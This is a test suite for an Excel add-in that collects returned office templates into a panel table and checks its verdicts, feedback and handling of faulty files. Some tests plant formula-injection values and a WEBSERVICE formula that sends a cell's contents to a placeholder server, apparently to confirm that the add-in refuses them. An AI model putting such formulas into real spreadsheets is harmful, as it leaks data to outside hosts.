// Long because it is one pass with files that come back: what is taken over, what is refused and how a person is told, all from one template.
import ExcelJS from "exceljs";
import { defaultModel } from "../../src/model";
import { translatorFor } from "../../src/texts";
import { columnOf, entryCell, fileName, officeFile, officeRows, officeValues, type Faulty } from "./collectFiles";
import { emptyTemplate, filled, FIRST_ROW, TemplatePane, type FileToReturn } from "./templatePane";

// Returned files, made outside of the add-in from the template that it wrote, collected by the shipped bundle.

let template: Uint8Array;
let pane: TemplatePane;
beforeAll(async () => {
  template = await emptyTemplate();
});
beforeEach(async () => {
  pane = await TemplatePane.open();
});
afterEach(() => {
  expect(pane.host.missing).toEqual([]);
  expect(pane.host.crashes).toEqual([]);
  expect(pane.host.calculationMode).toBe("Automatic");
  pane.host.close();
});

const LAST_COLUMN = "AQ";
/** Rows of the panel below its header. */
function panelRows(): (string | number | boolean | null)[][] {
  const [, last = ""] = pane.host.addressOfTable("ClusterPanel")?.split(":") ?? [];
  return last === "" ? [] : pane.host.valuesOf(`'Cluster panel'!A2:${last}`);
}
function logRows(): (string | number | boolean | null)[][] {
  const [, last = ""] = pane.host.addressOfTable("ClusterCollectionLog")?.split(":") ?? [];
  return pane.host.valuesOf(`'Collection log'!A2:${last}`);
}

/** Eight offices that went wrong in eight ways, by their number, each with what the pane has to say. */
const faulty: Readonly<Record<number, Faulty & { readonly says: RegExp }>> = {
  3: {
    spoil: (sheet) => {
      sheet.getCell("B2").value = "My own table";
    },
    says: /^No sheet has the version cell of a template or questionnaire/u,
  },
  6: {
    spoil: (sheet) => {
      sheet.getCell(4, columnOf("TY1")).value = "Revenue";
    },
    says: /^The column TY1 is missing in the header row, or its header was renamed/u,
  },
  9: {
    rows: (office) => [...officeRows(office), ...officeRows(office).slice(1, 2)],
    says: /^Cluster 9a, 2023 appears in rows 10, 12/u,
  },
  12: {
    spoil: (sheet) => {
      entryCell(sheet, 0, "TY2").value = { formula: "1+1", result: 2 };
    },
    says: /^G9 \(TY2\) holds the formula =1\+1, a value is needed/u,
  },
  15: {
    spoil: (sheet) => {
      entryCell(sheet, 1, "TY1").value = { formula: "[1]Sheet1!$A$1", result: 12 };
    },
    says: /^F10 \(TY1\) holds a formula that leads outside the file: =\[1\]Sheet1!\$A\$1/u,
  },
  18: {
    spoil: (sheet) => {
      entryCell(sheet, 2, "FL2").value = 100.5;
    },
    says: /^D11 \(FL2\) is 100\.5, a number from 0 to 100 is needed/u,
  },
  21: {
    spoil: (sheet) => {
      entryCell(sheet, 0, "TY9").value = "about 40";
    },
    says: /^N9 \(TY9\) holds the text 'about 40', a number is needed/u,
  },
  24: {
    spoil: (sheet) => {
      sheet.getCell("B2").value = "DCA-TEMPLATE 3 | DIC 3.0 | 01234567";
    },
    says: /^The template has version 3, this add-in knows up to 2/u,
  },
};

const sound = [1, 2, 30, 31];
const offices = [...sound, ...Object.keys(faulty).map(Number)].sort((one, other) => one - other);

async function twelveFiles(): Promise<FileToReturn[]> {
  const files: FileToReturn[] = [];
  for (const office of offices) files.push(await officeFile(template, office, faulty[office]));
  return files;
}

test("twelve files, eight of them faulty in eight ways: the right verdict for each, every value as in its file", async () => {
  await pane.collect(await twelveFiles());
  expect(pane.verdicts).toHaveLength(12);
  for (const office of offices) {
    const { verdict, findings } = pane.verdictOf(fileName(office));
    const fault = faulty[office];
    expect([office, verdict]).toEqual([office, fault ? "refused" : "accepted with remarks"]);
    if (fault) expect(findings[0]).toMatch(fault.says);
    else expect(findings).toEqual([expect.stringMatching(/^\d+ of 120 values are empty\. They stay empty/u)]);
  }
  expect(pane.pageText).toContain("0 accepted, 4 accepted with remarks, 8 refused, 0 not collected.");

  expect(pane.host.addressOfTable("ClusterPanel")).toBe(`'Cluster panel'!A1:${LAST_COLUMN}13`);
  expect(pane.host.valuesOf(`'Cluster panel'!A1:${LAST_COLUMN}1`)[0]).toEqual([
    "Cluster",
    "Year",
    ...defaultModel.indicators.map(({ code }) => code),
    "Source file",
  ]);
  const expected = sound.flatMap((office) => officeRows(office).map((row) => [...row, fileName(office)]));
  expect(panelRows()).toEqual(expected);

  const log = logRows();
  expect(new Set(log.map(([, file]) => file)).size).toBe(12);
  expect(log.filter(([, , verdict]) => verdict === "refused")).toHaveLength(8);
  expect(log.every(([time]) => typeof time === "number")).toBe(true);
  expect(pane.host.sheetNames).toEqual(["Sheet1", "Cluster panel", "Collection log"]);
});

test("on a person's word the correct rows of a refused file are kept, and the office gets its feedback", async () => {
  const about = async (spoil: (sheet: ExcelJS.Worksheet) => void): Promise<FileToReturn> =>
    officeFile(template, 7, {
      spoil: (sheet) => {
        sheet.getCell("E2").value = "Statistics, Ulm";
        sheet.getCell("G2").value = "Ms Lin";
        spoil(sheet);
      },
    });
  await pane.collect([
    await about((sheet) => {
      entryCell(sheet, 1, "TY9").value = "about 40";
    }),
  ]);
  expect(pane.verdictOf(fileName(7)).verdict).toBe("refused");
  expect(pane.pageText).toContain("From Statistics, Ulm (Ms Lin)");
  expect(pane.pageText).toContain("2 rows have no error.");
  expect(pane.host.sheetNames).not.toContain("Cluster panel");
  await pane.press("Collect the correct rows of 1 refused file");
  await pane.pageShows("accepted in part");
  expect(panelRows().map(([cluster, year]) => [cluster, year])).toEqual([
    ["Cluster 7a", 2022],
    ["Cluster 7b", 2023],
  ]);
  await pane.press("Write a feedback sheet");
  await pane.pageShows("The feedback is on the sheets 'Feedback Office 07'.");
  const told = pane.host.valuesOf("'Feedback Office 07'!A1:B16").flat();
  expect(told).toEqual(expect.arrayContaining(["Statistics, Ulm", "Ms Lin", "accepted in part"]));
  expect(told.some((text) => String(text).startsWith("N10 (TY9) holds the text 'about 40'"))).toBe(true);
  expect(told).toContain(`Please correct what is listed and return the file under the same name: ${fileName(7)}.`);

  // The corrected file replaces its rows, and the feedback stands on its sheet.
  await pane.collect([await about(() => undefined)]);
  expect(panelRows()).toHaveLength(3);
  await pane.press("Write a feedback sheet");
  await pane.pageShows("The feedback is on the sheets 'Feedback Office 07'.");
  expect(pane.host.sheetNames.filter((name) => name.startsWith("Feedback"))).toEqual(["Feedback Office 07"]);
  expect(pane.host.valuesOf("'Feedback Office 07'!A1:B14").flat()).toContain("Nothing has to be corrected.");
});

test("templates of the first version are collected, also with rows inserted, columns moved and the sheet renamed", async () => {
  const old = await officeFile(template, 5, {
    spoil: (sheet) => {
      sheet.getCell("B2").value = "DCA-TEMPLATE 1 | DIC 1.0 | 1dbee534";
      for (const cell of ["D2", "E2", "F2", "G2"]) sheet.getCell(cell).value = null;
      sheet.name = "Our figures";
      for (let row = 4; row <= FIRST_ROW + 2; row += 1) {
        const [first, second] = [sheet.getCell(row, 3), sheet.getCell(row, 42)];
        [first.value, second.value] = [second.value, first.value];
      }
      sheet.spliceRows(FIRST_ROW + 1, 0, [], []);
      sheet.spliceRows(6, 0, []);
      sheet.spliceRows(1, 0, ["For the ministry"]);
    },
  });
  await pane.collect([old]);
  expect(pane.verdictOf(fileName(5)).verdict).toBe("accepted with remarks");
  expect(panelRows()).toEqual(officeRows(5).map((row) => [...row, fileName(5)]));
});

test("what an office says of a value goes into a table of sources", async () => {
  const file = await officeFile(template, 8, {
    spoil: (sheet) => {
      sheet.getCell(4, 43).value = "TY1 source";
      sheet.getCell(FIRST_ROW, 43).value = "survey 2023";
    },
  });
  await pane.collect([file]);
  const [, last = ""] = pane.host.addressOfTable("ClusterSources")?.split(":") ?? [];
  expect(pane.host.valuesOf(`'Sources of values'!A1:${last}`)).toEqual([
    ["Cluster", "Year", "Indicator", "source", "remark", "Source file"],
    ["Cluster 8a", 2022, "TY1", "survey 2023", null, fileName(8)],
  ]);
});

test("the panel is taken by the assessment: the table becomes the data of all pages", async () => {
  await pane.collect([await officeFile(template, 1), await officeFile(template, 2)]);
  await pane.press("Work with the panel");
  await pane.pageShows("is now the data of all pages");
  expect(pane.host.activeSheet).toBe("Cluster panel");
  expect(pane.host.selection).toBe(`A1:${LAST_COLUMN}7`);
  await pane.press("Assess");
  await pane.pageShows("40 of 40 indicators recognised");
  await pane.press("Assess this table");
  await pane.pageShows("4 of 4 clusters");
});

test("the same file again replaces its rows and says so; rows of others stay", async () => {
  await pane.collect([await officeFile(template, 1), await officeFile(template, 2)]);
  await pane.collect([
    await officeFile(template, 1, { rows: (office) => [[`Cluster ${office}a`, 2023, ...officeValues(7, 7)]] }),
  ]);
  expect(pane.verdictOf(fileName(1)).findings[0]).toBe("3 rows collected from this file before were replaced.");
  expect(panelRows()).toEqual([
    ...officeRows(2).map((row) => [...row, fileName(2)]),
    ["Cluster 1a", 2023, ...officeValues(7, 7), fileName(1)],
  ]);
});

test("what stands beside the panel's own columns moves with its rows", async () => {
  await pane.collect([await officeFile(template, 1), await officeFile(template, 2)]);
  await pane.host.enter("'Cluster panel'!AR1", "Note");
  await pane.host.enter("'Cluster panel'!AR5", "mine, beside 2a");
  await pane.collect([await officeFile(template, 1)]);
  const [row] = panelRows();
  expect([row?.[0], row?.[1], row?.at(-1)]).toEqual(["Cluster 2a", 2022, "mine, beside 2a"]);
});

test("the same file twice in one go is collected once in effect", async () => {
  const file = await officeFile(template, 4);
  await pane.collect([file, file]);
  expect(pane.verdicts.map(({ findings }) => findings[0])).toEqual([
    expect.stringContaining("values are empty"),
    "3 rows collected from this file before were replaced.",
  ]);
  expect(panelRows()).toEqual(officeRows(4).map((row) => [...row, fileName(4)]));
});

test("two offices that answer for the same cluster and year: the second is refused, nothing is overwritten", async () => {
  const first = await officeFile(template, 5);
  await pane.collect([first, { ...first, name: "Another office.xlsx" }]);
  expect(pane.verdictOf("Another office.xlsx")).toMatchObject({
    verdict: "refused",
    findings: [
      expect.stringContaining("Cluster 5a, 2022 was already collected, from the file Office 05.xlsx"),
      expect.anything(),
      expect.anything(),
    ],
  });
  expect(panelRows()).toHaveLength(3);
});

test("two offices that call their files alike do not delete each other's rows", async () => {
  const name = "Cluster data.xlsx";
  await pane.collect([{ ...(await officeFile(template, 1)), name }]);
  await pane.collect([{ ...(await officeFile(template, 2)), name }]);
  expect(pane.verdictOf(name).findings[0]).toMatch(
    /^3 rows are collected from a file of the same name with nothing in common \(Cluster 1a, Cluster 1b\)/u,
  );
  expect(panelRows()).toEqual(officeRows(1).map((row) => [...row, name]));
});

test("blank is never zero: an empty cell stays empty, a typed zero stays zero", async () => {
  const nothing: null[] = defaultModel.indicators.slice(2).map(() => null);
  await pane.collect([await officeFile(template, 1, { rows: () => [["Only one", 2024, 0, null, ...nothing]] })]);
  expect(panelRows()).toEqual([["Only one", 2024, 0, null, ...nothing, fileName(1)]]);
  expect(pane.verdictOf(fileName(1)).findings).toEqual([
    "39 of 40 values are empty. They stay empty: missing is never zero.",
  ]);
});

test("a percent cell keeps its value and its format, and is judged by what it means", async () => {
  const spoil = (value: number) => (sheet: ExcelJS.Worksheet) => {
    const cell = entryCell(sheet, 0, "TY1");
    cell.value = value;
    // Cells of a file share their style.
    cell.style = { ...cell.style, numFmt: "0%" };
  };
  await pane.collect([
    await officeFile(template, 1, { spoil: spoil(0.45) }),
    await officeFile(template, 2, { spoil: spoil(4.5) }),
  ]);
  expect(pane.host.valueOf("'Cluster panel'!F2")).toBe(0.45);
  expect(pane.host.numberFormatOf("'Cluster panel'!F2")).toBe("0.00%");
  expect(pane.host.numberFormatOf("'Cluster panel'!F3")).toBe("General");
  expect(pane.verdictOf(fileName(1)).findings).toContain(
    "TY1: cells formatted as percentages, kept as such in the panel (45% counts as 45).",
  );
  expect(pane.verdictOf(fileName(2)).findings[0]).toMatch(/^F9 \(TY1\) is 450, a number from 0 to 100 is needed/u);
});

test("a percent cell that only stands among large numbers is the number that it holds, in the panel, too", async () => {
  const spoil = (sheet: ExcelJS.Worksheet) => {
    const cells = officeRows(1).map((_, row) => entryCell(sheet, row, "TY1"));
    cells.forEach((cell, at) => {
      cell.value = 45 + at;
      cell.style = { ...cell.style, numFmt: "0%" };
    });
  };
  await pane.collect([await officeFile(template, 1, { spoil })]);
  expect(pane.host.valueOf("'Cluster panel'!F2")).toBe(45);
  expect(pane.host.numberFormatOf("'Cluster panel'!F2")).toBe("General");
});

test("clusters whose names differ in capitals alone are two, and told", async () => {
  const rows = (...names: string[]) => ({ rows: () => names.map((name) => [name, 2024, ...officeValues(1, 1)]) });
  await pane.collect([
    await officeFile(template, 1, rows("Port One")),
    await officeFile(template, 2, rows("port one", "Quay")),
    await officeFile(template, 3, rows("Ｑuay\u200b")),
  ]);
  const said = translatorFor("en")("collect.remark.capitals", { name: "port one", like: "Port One" });
  expect(pane.verdictOf(fileName(1)).findings).not.toContain(said);
  expect(pane.verdictOf(fileName(2)).findings).toContain(said);
  expect(pane.verdictOf(fileName(3)).verdict).toBe("refused");
  expect(panelRows().map(([name]) => name)).toEqual(["Port One", "port one", "Quay"]);
});

test.each(["=1+1", "+49 30", "-Cluster", "@home", "\tTab", '=WEBSERVICE("https://x.invalid")'])(
  "a name that could become a formula stays the text %j",
  async (name) => {
    await pane.collect([await officeFile(template, 1, { rows: () => [[name, 2024, ...officeValues(1, 1)]] })]);
    expect(panelRows()[0]?.[0]).toBe(name);
    expect(pane.host.formulaOf("'Cluster panel'!A2")).toBe(name);
    // Excel shows a text that begins with an apostrophe when it is written; nothing of it is calculated.
    expect(pane.host.cellAt("'Cluster panel'!A2")).toBe(name);
  },
);

const ole = (text: string): Uint8Array =>
  new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...[...text].flatMap((c) => [c.charCodeAt(0), 0])]);

async function zipOf(name: string, content: string): Promise<Uint8Array> {
  const { default: JSZip } = await import("jszip");
  const zip = new JSZip();
  zip.file(name, content);
  return zip.generateAsync({ type: "uint8array" });
}

describe("bad files", () => {
  const verdictOn = async (bytes: Uint8Array): Promise<string> => {
    await pane.collect([{ name: "bad.xlsx", bytes }]);
    const { verdict, findings } = pane.verdictOf("bad.xlsx");
    expect(verdict).toBe("refused");
    expect(pane.host.sheetNames).toEqual(["Sheet1", "Collection log"]);
    return findings[0] ?? "";
  };

  test("a password-protected file", async () => {
    expect(await verdictOn(ole("EncryptedPackage"))).toMatch(/^The file is encrypted with a password/u);
  });
  test("an .xls", async () => {
    expect(await verdictOn(ole("Workbook"))).toMatch(/this is one of Excel 97-2003/u);
  });
  test("a zip that is no workbook", async () => {
    expect(await verdictOn(await zipOf("word/document.xml", "<x/>"))).toMatch(/^An \.xlsx workbook is needed/u);
  });
  test("an OpenDocument file", async () => {
    const bytes = await zipOf("mimetype", "application/vnd.oasis.opendocument.spreadsheet");
    expect(await verdictOn(bytes)).toMatch(/this is an OpenDocument file/u);
  });
  test("a file that is cut off", async () => {
    const whole = (await officeFile(template, 1)).bytes;
    expect(await verdictOn(whole.slice(0, whole.length / 2))).toMatch(
      /^(Excel could not open the file|An \.xlsx workbook)/u,
    );
  });
  test("a workbook with a damaged part", async () => {
    expect(await verdictOn(await zipOf("xl/workbook.xml", "no xml at all"))).toMatch(/^Excel could not open the file/u);
  });
  test("an empty file", async () => {
    expect(await verdictOn(new Uint8Array())).toMatch(/the file is empty/u);
  });
  test("a file far too large", async () => {
    const large = new Uint8Array(4_000_000);
    large.set([0x50, 0x4b, 0x03, 0x04]);
    expect(await verdictOn(large)).toMatch(/^A file of at most 3\.5 MB is needed, this one has 4 MB/u);
  });
  test("a template of another model", async () => {
    const other = await emptyTemplate("en-US", "EU-PROXY");
    expect(await verdictOn(await filled(other, [["EU", 2022, 1]]))).toMatch(
      /^The template was made from another model or other ranges: EU-PROXY \S+ \([0-9a-f]{8}\) instead of DIC 1\.1/u,
    );
  });
  test("a template without a row", async () => {
    expect(await verdictOn(template)).toMatch(/^No row is filled in/u);
  });
  test("merged cells among the entries", async () => {
    const { bytes } = await officeFile(template, 1, { spoil: (sheet) => sheet.mergeCells("A9:A10") });
    expect(await verdictOn(bytes)).toMatch(/^Merged cells at A9:A10/u);
  });
  test("a formula that asks a server", async () => {
    const { bytes } = await officeFile(template, 1, {
      spoil: (sheet) => {
        entryCell(sheet, 0, "FL1").value = { formula: 'WEBSERVICE("https://x.invalid/"&A9)', result: 1 };
      },
    });
    expect(await verdictOn(bytes)).toMatch(/^C9 \(FL1\) holds a formula that leads outside the file: =WEBSERVICE/u);
  });
  test("an error value, a truth value and a year as text", async () => {
    const { bytes } = await officeFile(template, 1, {
      spoil: (sheet) => {
        entryCell(sheet, 0, "FL1").value = { error: "#N/A" };
        entryCell(sheet, 1, "FL1").value = true;
        sheet.getCell(FIRST_ROW + 2, 2).value = "2023";
      },
    });
    await verdictOn(bytes);
    expect(pane.verdictOf("bad.xlsx").findings).toEqual([
      "C9 (FL1) holds the error #N/A. Correct the cell or leave it empty.",
      "C10 (FL1) holds true, a number or a name is needed. Correct the cell or leave it empty.",
      "B11 (Year) shows 2023, but it is stored as text, and a number is needed. Set the format of the cell to General and type the number again, without separators or sign.",
    ]);
  });
  test("a row without a cluster and one without a year", async () => {
    const { bytes } = await officeFile(template, 1, {
      rows: () => [
        [null, 2023, 1],
        ["Nameless year", null, 1],
      ],
    });
    await verdictOn(bytes);
    expect(pane.verdictOf("bad.xlsx").findings).toEqual([
      "A9 is empty: the row names no cluster. Fill in its name, or clear the row.",
      "B10 is empty: the row names no year. Fill it in, or clear the row.",
    ]);
  });
  test("the labels under the header were overwritten", async () => {
    const { bytes } = await officeFile(template, 1, {
      spoil: (sheet) => {
        sheet.getCell("A8").value = "Cluster 0";
      },
    });
    expect(await verdictOn(bytes)).toMatch(/^Cell A8 should say Highest value \/ 最大值, found 'Cluster 0'/u);
  });
  test("a sheet with 100,000 rows", async () => {
    const { bytes } = await officeFile(template, 1, {
      spoil: (sheet) => {
        sheet.getCell(100_000, 1).value = "far below";
      },
    });
    expect(await verdictOn(bytes)).toMatch(/^At most 10000 rows are expected on the sheet, it has 100000/u);
  });
});

test("a hidden template is read and told, other hidden sheets are told, and all of them go again", async () => {
  const file = await officeFile(template, 1, {
    spoil: (sheet, workbook) => {
      sheet.state = "hidden";
      workbook.addWorksheet("Secret", { state: "veryHidden" }).getCell("A1").value = 1;
      workbook.addWorksheet("Open").getCell("A1").value = 2;
    },
  });
  await pane.collect([file]);
  expect(pane.verdictOf(fileName(1)).findings).toEqual([
    "The sheet 'Cluster data' with the data is hidden. It was read all the same.",
    expect.stringContaining("values are empty"),
    "Hidden sheets that were not read: Secret.",
  ]);
  expect(pane.host.sheetNames).toEqual(["Sheet1", "Cluster panel", "Collection log"]);
});

test("rows that the office hid or filtered away are collected, and told by their numbers", async () => {
  const file = await officeFile(template, 1, {
    spoil: (sheet) => {
      sheet.getRow(10).hidden = true;
      sheet.getRow(11).hidden = true;
    },
  });
  await pane.collect([file]);
  const { verdict, findings } = pane.verdictOf(fileName(1));
  expect(verdict).toBe("accepted with remarks");
  expect(findings[0]).toBe("Hidden rows were read like the others: 10, 11. Unhide them to see what was collected.");
  // Two clusters, one in two years.
  expect(pane.host.valuesOf("'Cluster panel'!A2:A4").flat()).toEqual(["Cluster 1a", "Cluster 1a", "Cluster 1b"]);
});

test("names that come along with a file are taken away; the workbook's own stay", async () => {
  pane.host.defineName("Mine", "=Sheet1!$A$1");
  const file = await officeFile(template, 1, {
    spoil: (_, workbook) => workbook.definedNames.add("'Cluster data'!$A$9", "Theirs"),
  });
  await pane.collect([file]);
  expect(pane.host.nameOf("Theirs")).toBeUndefined();
  expect(pane.host.nameOf("Mine")).toBe("=Sheet1!$A$1");
});

test("columns in another order and foreign columns are read by their headers", async () => {
  const file = await officeFile(template, 1, {
    spoil: (sheet) => {
      for (const row of [4, 5, 6, 7, 8, 9, 10, 11]) {
        const [first, second] = [sheet.getCell(row, 3).value, sheet.getCell(row, 4).value];
        sheet.getCell(row, 3).value = second;
        sheet.getCell(row, 4).value = first;
      }
      sheet.getCell("AQ4").value = "Remarks";
      sheet.getCell("AQ9").value = "estimated";
    },
  });
  await pane.collect([file]);
  expect(pane.verdictOf(fileName(1)).findings[0]).toBe(
    "Columns that the template does not have were not read: Remarks.",
  );
  expect(panelRows()).toEqual(officeRows(1).map((row) => [...row, fileName(1)]));
});

test("cancel at file five: four are in the panel, the rest is named, calculation is restored", async () => {
  const files: FileToReturn[] = [];
  for (let office = 1; office <= 9; office += 1) files.push(await officeFile(template, office));
  await pane.handIn(files);
  await pane.press(/^Collect 9 files/u);
  await pane.host.until(() => pane.pageText.includes("File 5 of 9"));
  expect(pane.host.calculationMode).toBe("Manual");
  await pane.press("Cancel");
  await pane.collected();
  const verdicts = pane.verdicts.map(({ verdict }) => verdict);
  expect(verdicts.slice(0, 4)).toEqual(Array(4).fill("accepted with remarks"));
  expect(verdicts.slice(6)).toEqual(Array(3).fill("not collected"));
  const collected = verdicts.filter((verdict) => verdict === "accepted with remarks").length;
  expect(panelRows()).toHaveLength(3 * collected);
  expect(logRows().filter(([, , verdict]) => verdict === "not collected")).toHaveLength(9 - collected);
});

test("a hundred files at once", async () => {
  const { bytes } = await officeFile(template, 1);
  const files: FileToReturn[] = [];
  for (let at = 0; at < 100; at += 1)
    files.push({ name: `No ${at}.xlsx`, bytes: at === 0 ? bytes : bytes.slice(0, at) });
  await pane.collect(files);
  expect(pane.verdicts).toHaveLength(100);
  expect(pane.pageText).toContain("0 accepted, 1 accepted with remarks, 99 refused, 0 not collected.");
  expect(panelRows()).toHaveLength(3);
});

test("a protected structure, a protected panel and a foreign panel are told before anything is opened", async () => {
  const file = await officeFile(template, 1);
  pane.host.protectStructure();
  await pane.collect([file]);
  expect(pane.notices[0]).toMatch(/the structure of this workbook is protected/u);
  pane.host.protectStructure(false);
  await pane.collect([file]);
  pane.host.protectSheet("Cluster panel");
  await pane.collect([await officeFile(template, 2)]);
  expect(pane.notices[0]).toMatch(/^The sheet 'Cluster panel' with the panel must be open for writing/u);
  pane.host.protectSheet("Cluster panel", false);
  await pane.choose("Model", "EU-PROXY");
  await pane.collect([file]);
  expect(pane.notices[0]).toMatch(/^The table ClusterPanel on the sheet 'Cluster panel' has no column ict_/u);
  expect(panelRows()).toHaveLength(3);
});

test("cells below the panel that are in use are not swallowed", async () => {
  await pane.collect([await officeFile(template, 1)]);
  pane.host.enterTable("'Cluster panel'!C6", [["my note"]]);
  await pane.collect([await officeFile(template, 2)]);
  expect(pane.verdictOf(fileName(2)).findings[0]).toMatch(
    /^The rows were not written, because the cells below the table, 'Cluster panel'!C6, are in use\. What was collected before is unchanged/u,
  );
  expect(pane.host.valueOf("'Cluster panel'!C6")).toBe("my note");
  expect(panelRows()).toHaveLength(3);
});

test("a manual workbook stays manual", async () => {
  pane.host.setCalculationMode("Manual");
  await pane.collect([await officeFile(template, 1)]);
  expect(pane.host.calculationMode).toBe("Manual");
  pane.host.setCalculationMode("Automatic");
});
